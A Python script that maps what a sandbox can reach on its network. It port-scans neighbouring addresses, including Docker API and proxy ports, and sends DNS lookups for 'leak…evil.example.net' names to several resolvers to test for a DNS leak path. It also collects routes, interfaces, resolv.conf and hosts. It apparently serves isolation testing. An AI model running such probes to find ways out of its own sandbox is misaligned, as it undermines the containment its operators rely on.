"""What a sandbox reaches and learns of its network, as one JSON object.

    reach.py TARGETS     a JSON list of [host, port], tried besides what is around the sandbox
"""

import concurrent.futures
import ipaddress
import json
import os
import pathlib
import random
import socket
import struct
import sys

PROXY = os.environ["http_proxy"].split("/")[2].split(":")[0]
PORTS = [22, 53, 80, 443, 2375, 2376, 3128, 9000, 9464]


def reaches(target):
    try:
        socket.create_connection(target, 2).close()
        return True
    except OSError:
        return False


def ask(server, name):
    """The response code of a DNS answer, 0 for one that was found; null where there is none."""
    number = random.randrange(1 << 16)
    labels = b"".join(bytes([len(part)]) + part.encode() for part in name.split("."))
    query = struct.pack(">6H", number, 0x100, 1, 0, 0, 0) + labels + b"\0\0\1\0\1"
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as udp:
        udp.settimeout(4)
        try:
            udp.sendto(query, (server, 53))
            answer = udp.recv(4096)
        except OSError:
            return None
    return answer[3] & 15 if answer[:2] == query[:2] else "not an answer"


def gateways():
    """Where default routes lead; proc_net(5) has addresses in the byte order of the machine."""
    routes = [line.split() for line in open("/proc/net/route")]
    return [socket.inet_ntoa(struct.pack("=I", int(route[2], 16))) for route in routes if route[1] == "0" * 8]


slice_ = ipaddress.ip_network(f"{PROXY}/29", strict=False)
own = socket.gethostbyname(socket.gethostname())
around = [str(address) for address in slice_ if str(address) != own]
targets = [(host, port) for host in around for port in PORTS]
targets += [(host, port) for host, port in json.loads(sys.argv[1])]
servers = [PROXY, "127.0.0.1", "127.0.0.11", around[1], "192.0.2.53", "10.199.242.53"]
with concurrent.futures.ThreadPoolExecutor(48) as pool:
    reached = [target for target, ok in zip(targets, pool.map(reaches, targets)) if ok]
    answers = pool.map(lambda at: ask(servers[at], f"leak{at}.evil.example.net"), range(len(servers)))
    print(json.dumps({
        "own": own,
        "proxy": PROXY,
        "reached": sorted(f"{host}:{port}" for host, port in reached),
        "answers": dict(zip(servers, answers)),
        "interfaces": sorted(os.listdir("/sys/class/net")),
        "gateways": gateways(),
        "ipv6": pathlib.Path("/proc/net/if_inet6").exists() and open("/proc/net/if_inet6").read(),
        "resolv.conf": open("/etc/resolv.conf").read(),
        "hosts": [line.split() for line in open("/etc/hosts") if line.split("#")[0].split()],
    }))
